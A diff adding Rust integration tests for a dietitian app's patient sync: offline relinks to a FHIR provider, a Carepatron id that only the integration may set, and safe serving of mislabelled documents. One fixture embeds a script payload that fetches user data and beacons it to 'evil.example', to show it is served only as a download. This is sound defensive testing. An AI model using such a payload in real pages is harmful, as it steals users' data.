@@ -1,0 +1,296 @@
+//! Links to the PHP and to Carepatron that a client cannot abuse: a link changed offline goes
+//! through the path a REST edit takes (the PHP match forgotten, a pull queued); the Carepatron
+//! client id is the integration's alone; a document a PHP sends as something it is not is
+//! kept as a download and never served to be rendered inline.
+
+use crate::both_backends;
+use crate::helpers::{TestApp, TestUser};
+use domain::UserType::{Admin, Dietician};
+use sandbox::fhir::FhirSandbox;
+use serde_json::{json, Value};
+use std::time::{Duration, Instant};
+use uuid::Uuid;
+
+/// A provider record (open FHIR server at `base`), made by a fresh admin.
+async fn provider(app: &TestApp, base: &str) -> Uuid {
+    let admin = app.user(Admin).await;
+    app.post(
+        "/api/v1/providers",
+        &admin,
+        json!({"name": "Springfield Clinic", "fhir_base_url": base, "auth": {"mode": "none"}}),
+    )
+    .await
+    .expect(201)
+    .id()
+}
+
+#[allow(clippy::needless_pass_by_value)] // reads better at the call sites
+fn mutation(row: Uuid, op: &str, base: i64, fields: Value) -> Value {
+    json!({"mutation_id": Uuid::now_v7(), "device_seq": 1, "table": "patients", "row_id": row,
+           "op": op, "base_version": base, "fields": fields})
+}
+
+async fn push(app: &TestApp, who: &TestUser, mutations: &[Value]) -> Vec<Value> {
+    app.post(
+        "/api/v1/sync/push",
+        who,
+        json!({"device_id": "laptop-1", "mutations": mutations}),
+    )
+    .await
+    .expect(200)
+    .body["results"]
+        .as_array()
+        .expect("results")
+        .clone()
+}
+
+/// As if the patient had been pulled: found at the PHP as `php_id`, up to a watermark.
+async fn matched(app: &TestApp, patient: Uuid, php_id: &str) {
+    app.db
+        .set_php_match(patient, Some(php_id), "found")
+        .await
+        .expect("match");
+    app.db
+        .set_watermark(patient, "2026-11-01T00:00:00Z")
+        .await
+        .expect("watermark");
+    // The pull queued when the patient was linked is over.
+    sqlx::query("UPDATE jobs SET status = 'done' WHERE patient_id = $1")
+        .bind(patient.to_string())
+        .execute(app.db.pool())
+        .await
+        .expect("jobs done");
+}
+
+/// The PHP patient id the pull would use, and its watermark.
+async fn pull_state(app: &TestApp, patient: Uuid) -> (Option<String>, Option<String>) {
+    let state = app.db.pull_state(patient).await.expect("pull state");
+    (state.php_patient_id, state.watermark)
+}
+
+async fn queued_pulls(app: &TestApp, patient: Uuid) -> i64 {
+    sqlx::query_scalar(
+        "SELECT count(*) FROM jobs WHERE patient_id = $1 AND kind = 'pull' AND status = 'queued'",
+    )
+    .bind(patient.to_string())
+    .fetch_one(app.db.pool())
+    .await
+    .expect("count")
+}
+
+/// Polls until `check` holds (20 s at most).
+async fn eventually<F, Fut, T>(what: &str, mut check: F) -> T
+where
+    F: FnMut() -> Fut,
+    Fut: std::future::Future<Output = Option<T>>,
+{
+    let deadline = Instant::now() + Duration::from_secs(20);
+    loop {
+        if let Some(v) = check().await {
+            return v;
+        }
+        assert!(Instant::now() < deadline, "timed out waiting for {what}");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+}
+
+both_backends! {
+    async fn a_link_changed_offline_resets_the_php_match_as_a_rest_edit_does(app) {
+        let provider = provider(&app, "http://127.0.0.1:9/fhir").await;
+        let d = app.user(Dietician).await;
+        let linked = json!({"provider_id": provider, "provider_patient_identifier": "urn:mrn|100001",
+                            "birth_date": "1980-02-03"});
+        let by_rest = app.patient(&d, linked.clone()).await;
+        let by_push = app.patient(&d, linked).await;
+        for p in [by_rest, by_push] {
+            matched(&app, p, "pat1").await;
+        }
+
+        // An edit that leaves the link alone keeps what the pull knew, on either path.
+        app.put(&format!("/api/v1/patients/{by_rest}"), &d, json!({"name": "Ana Lima-Souza"})).await.expect(200);
+        let r = push(&app, &d, &[mutation(by_push, "update", 1, json!({"name": "Ana Lima-Souza"}))]).await;
+        assert_eq!(r[0]["status"], "applied", "{r:?}");
+        for p in [by_rest, by_push] {
+            assert_eq!(pull_state(&app, p).await.0.as_deref(), Some("pat1"));
+            assert_eq!(queued_pulls(&app, p).await, 0);
+        }
+
+        // Pointing the record at someone else at the PHP: REST forgets the match and its
+        // watermark and queues a pull that finds the patient afresh...
+        app.put(&format!("/api/v1/patients/{by_rest}"), &d,
+                json!({"provider_patient_identifier": "urn:mrn|100002"})).await.expect(200);
+        assert_eq!(pull_state(&app, by_rest).await, (None, None));
+        assert_eq!(queued_pulls(&app, by_rest).await, 1);
+        // ...and so does the same edit made offline: the old PHP patient is never pulled again.
+        let r = push(&app, &d, &[mutation(by_push, "update", 2,
+                                          json!({"provider_patient_identifier": "urn:mrn|100002"}))]).await;
+        assert_eq!(r[0]["status"], "applied", "{r:?}");
+        assert_eq!(pull_state(&app, by_push).await, (None, None), "push keeps the old PHP patient id");
+        assert_eq!(queued_pulls(&app, by_push).await, 1, "push queues no pull");
+
+        // A birth date or provider changed offline is a relink too (what finds the patient).
+        matched(&app, by_push, "pat2").await;
+        let r = push(&app, &d, &[mutation(by_push, "update", 3, json!({"birth_date": "1980-03-02"}))]).await;
+        assert_eq!(r[0]["status"], "applied", "{r:?}");
+        assert_eq!(pull_state(&app, by_push).await, (None, None));
+
+        // Restoring a deleted patient with another link (a device that kept its edit).
+        matched(&app, by_push, "pat2").await;
+        app.delete(&format!("/api/v1/patients/{by_push}"), &d).await.expect(204);
+        let r = push(&app, &d, &[mutation(by_push, "restore", 4, json!({
+            "name": "Ana Lima-Souza", "provider_patient_identifier": "urn:mrn|100003"}))]).await;
+        assert_eq!(r[0]["status"], "applied", "{r:?}");
+        assert_eq!(pull_state(&app, by_push).await, (None, None));
+        assert_eq!(queued_pulls(&app, by_push).await, 1);
+
+        // A patient created offline already linked is pulled as one created over REST is.
+        let offline = Uuid::now_v7();
+        let r = push(&app, &d, &[mutation(offline, "insert", 0, json!({
+            "name": "Bruno Okafor", "email": "bruno@example.org", "provider_id": provider,
+            "provider_patient_identifier": "urn:mrn|100004"}))]).await;
+        assert_eq!(r[0]["status"], "applied", "{r:?}");
+        assert_eq!(queued_pulls(&app, offline).await, 1);
+    }
+
+    async fn the_carepatron_client_id_is_set_by_the_integration_only(app) {
+        let d = app.user(Dietician).await;
+        let other = app.user(Dietician).await;
+        let theirs = app.patient(&other, json!({})).await;
+        // Say their patient is a Carepatron client already (the integration sets this).
+        sqlx::query("UPDATE patients SET carepatron_patient_id = 'cp-client-of-a-colleague' WHERE id = $1")
+            .bind(theirs.to_string())
+            .execute(app.db.pool())
+            .await
+            .expect("set");
+
+        // Creating a patient pointed at a colleague's Carepatron client: refused, naming it.
+        for value in [json!("cp-client-of-a-colleague"), json!(null)] {
+            let res = app.post("/api/v1/patients", &d, json!({
+                "name": "Ana Lima", "email": format!("ana-{}@example.org", Uuid::now_v7().simple()),
+                "carepatron_patient_id": value})).await.problem(422, "validation_failed");
+            assert_eq!(res.body["field"], "carepatron_patient_id", "{}", res.body);
+            assert!(res.body["detail"].as_str().is_some_and(|t| t.contains("set by the Carepatron integration only")), "{}", res.body);
+        }
+        assert!(app.get("/api/v1/patients", &d).await.expect(200).ids().is_empty());
+
+        // Repointing an existing one: refused, nothing written.
+        let mine = app.patient(&d, json!({})).await;
+        let res = app.put(&format!("/api/v1/patients/{mine}"), &d,
+                          json!({"name": "Renamed", "carepatron_patient_id": "cp-client-of-a-colleague"}))
+            .await
+            .problem(422, "validation_failed");
+        assert_eq!(res.body["field"], "carepatron_patient_id");
+        let row = app.get(&format!("/api/v1/patients/{mine}"), &d).await.expect(200);
+        assert_eq!(row.body["carepatron_patient_id"], Value::Null);
+        assert_eq!(row.body["name"], "Ana Lima");
+        assert_eq!(row.body["version"], 1);
+
+        // Offline, the same: each mutation refused by name, the others applied.
+        let inserted = Uuid::now_v7();
+        let r = push(&app, &d, &[
+            mutation(mine, "update", 1, json!({"carepatron_patient_id": "cp-client-of-a-colleague"})),
+            mutation(inserted, "insert", 0, json!({"name": "Offline Olga", "email": "olga@example.org",
+                                                  "carepatron_patient_id": "cp-client-of-a-colleague"})),
+            mutation(mine, "update", 1, json!({"dietary_preferences": "vegan"})),
+        ]).await;
+        let statuses: Vec<&str> = r.iter().map(|m| m["status"].as_str().expect("status")).collect();
+        assert_eq!(statuses, ["rejected", "rejected", "applied"], "{r:?}");
+        for refused in &r[..2] {
+            assert_eq!(refused["code"], "validation_failed");
+            assert_eq!(refused["reason"],
+                       "carepatron patient id: is set by the Carepatron integration only; leave it out");
+        }
+        let row = app.get(&format!("/api/v1/patients/{mine}"), &d).await.expect(200);
+        assert_eq!(row.body["carepatron_patient_id"], Value::Null);
+        app.get(&format!("/api/v1/patients/{inserted}"), &d).await.expect(404);
+        // The OpenAPI document does not offer the field to clients.
+        let spec = app.call(reqwest::Method::GET, "/api/v1/openapi.json", None, None).await.expect(200).body;
+        for schema in ["NewPatient", "PatientUpdate"] {
+            let properties = &spec["components"]["schemas"][schema]["properties"];
+            assert!(properties.get("name").is_some(), "{schema}: {properties}");
+            assert!(properties.get("carepatron_patient_id").is_none(), "{schema}: {properties}");
+        }
+    }
+}
+
+/// The response to `GET /documents/{id}/content`.
+async fn content(app: &TestApp, user: &TestUser, id: &str) -> reqwest::Response {
+    app.client
+        .get(app.url(&format!("/api/v1/documents/{id}/content")))
+        .bearer_auth(&user.token)
+        .send()
+        .await
+        .expect("content")
+}
+
+fn header<'a>(res: &'a reqwest::Response, name: &str) -> Option<&'a str> {
+    res.headers().get(name).and_then(|v| v.to_str().ok())
+}
+
+both_backends! {
+    @with (server::testing::with_jobs)
+
+    async fn a_php_document_is_shown_inline_only_when_its_type_is_safe_and_true(app) {
+        let php = FhirSandbox::default();
+        let seeded = sandbox::seed::php(&php, 1, 0, 5);
+        let served = php.serve("127.0.0.1:0").await.expect("serve");
+        let page = b"<html><body><script>fetch('/api/v1/users').then(r => r.text()).then(navigator.sendBeacon.bind(navigator, 'https://evil.example'))</script></body></html>";
+        let pdf = sandbox::seed::minimal_pdf("Lab results");
+        let png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01";
+        let patient_at_php = &seeded[0].id;
+        sandbox::seed::attachment_document(&php, patient_at_php, "Sent as a PDF", "application/pdf", page);
+        sandbox::seed::attachment_document(&php, patient_at_php, "A web page", "text/html", b"<html><body><p>Diet plan</p></body></html>");
+        sandbox::seed::attachment_document(&php, patient_at_php, "Real PDF", "application/pdf", &pdf);
+        sandbox::seed::attachment_document(&php, patient_at_php, "Real PNG", "image/png", png);
+
+        let provider = provider(&app, &served.base).await;
+        let d = app.user(Dietician).await;
+        let p = &seeded[0];
+        let patient = app.patient(&d, json!({"name": p.name, "email": p.email, "birth_date": p.birth_date,
+            "provider_id": provider,
+            "provider_patient_identifier": format!("{}|{}", sandbox::seed::MRN_SYSTEM, p.mrn)})).await;
+        let docs: Vec<Value> = eventually("the pull", || async {
+            let docs = app.get(&format!("/api/v1/patients/{patient}/documents"), &d).await.expect(200)
+                .body["items"].as_array().expect("items").clone();
+            (docs.len() == 4).then_some(docs)
+        }).await;
+        let doc = |title: &str| docs.iter().find(|x| x["title"] == title).unwrap_or_else(|| panic!("{title}: {docs:?}")).clone();
+
+        // HTML the PHP called a PDF is kept, as a download, and the log says why.
+        let lie = doc("Sent as a PDF");
+        assert_eq!(lie["mime_type"], "application/octet-stream");
+        let logs = app.get(&format!("/api/v1/patients/{patient}/logs?limit=200"), &d).await.expect(200).body;
+        let said = logs["items"].as_array().expect("items").iter()
+            .find(|e| e["document_id"] == lie["id"]).expect("its log entry")["details"].clone();
+        assert_eq!(said, "Received from Springfield Clinic (progress note). Kept as a file to download (application/octet-stream): its content is not the application/pdf it was sent as.");
+        // HTML sent as HTML keeps its type.
+        assert_eq!(doc("A web page")["mime_type"], "text/html");
+        assert_eq!(doc("Real PDF")["mime_type"], "application/pdf");
+        assert_eq!(doc("Real PNG")["mime_type"], "image/png");
+
+        // Served: anything but the inline-safe types is an attachment, never sniffed.
+        for (title, content_type, shown) in [
+            ("Sent as a PDF", "application/octet-stream", false),
+            ("A web page", "text/html; charset=utf-8", false),
+            ("Real PDF", "application/pdf", true),
+            ("Real PNG", "image/png", true),
+        ] {
+            let res = content(&app, &d, doc(title)["id"].as_str().expect("id")).await;
+            assert_eq!(res.status(), 200, "{title}");
+            assert_eq!(header(&res, "content-type"), Some(content_type), "{title}");
+            assert_eq!(header(&res, "x-content-type-options"), Some("nosniff"), "{title}");
+            assert_eq!(header(&res, "content-disposition"), (!shown).then_some("attachment"), "{title}");
+        }
+        let res = content(&app, &d, lie["id"].as_str().expect("id")).await;
+        assert_eq!(res.bytes().await.expect("bytes").as_ref(), page, "the bytes as they came");
+
+        // The same rule for what people upload: CSV is kept as text, served as a download.
+        let csv = app.post(&format!("/api/v1/patients/{patient}/documents"), &d,
+            json!({"type": "other", "date": "2026-11-03", "title": "Food diary", "content": "day,kcal\n1,1800\n",
+                   "mime_type": "text/csv"})).await.expect(201);
+        let res = content(&app, &d, csv.body["id"].as_str().expect("id")).await;
+        assert_eq!(header(&res, "content-disposition"), Some("attachment"));
+        let res = content(&app, &d, &app.text_document(&d, patient, "Note").await.to_string()).await;
+        assert_eq!(header(&res, "content-disposition"), None, "plain text is shown");
+    }
+}
